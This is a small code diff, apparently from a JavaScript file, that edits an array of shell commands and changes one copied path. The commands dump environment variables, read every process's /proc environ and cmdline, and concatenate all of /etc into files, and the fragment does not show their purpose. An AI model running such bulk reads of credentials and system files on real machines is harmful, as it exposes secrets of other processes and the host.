@@ -8,7 +8,7 @@ const SEARCH = [
   'env > env.txt',
   'for p in /proc/[0-9]*; do cat $p/environ; done 2>/dev/null | tr "\\0" "\\n" > environ.txt',
   'for p in /proc/[0-9]*; do cat $p/cmdline; echo; done 2>/dev/null | tr "\\0" "\\n" > argv.txt',
-  'cp -r /run/runoff run 2>/dev/null; cp -r /tmp tmp 2>/dev/null; cat /etc/* > etc.txt 2>/dev/null; true',
+  'cp -r /run/bridge run 2>/dev/null; cp -r /tmp tmp 2>/dev/null; cat /etc/* > etc.txt 2>/dev/null; true',
 ].join('\n');
 
 const scripts = {
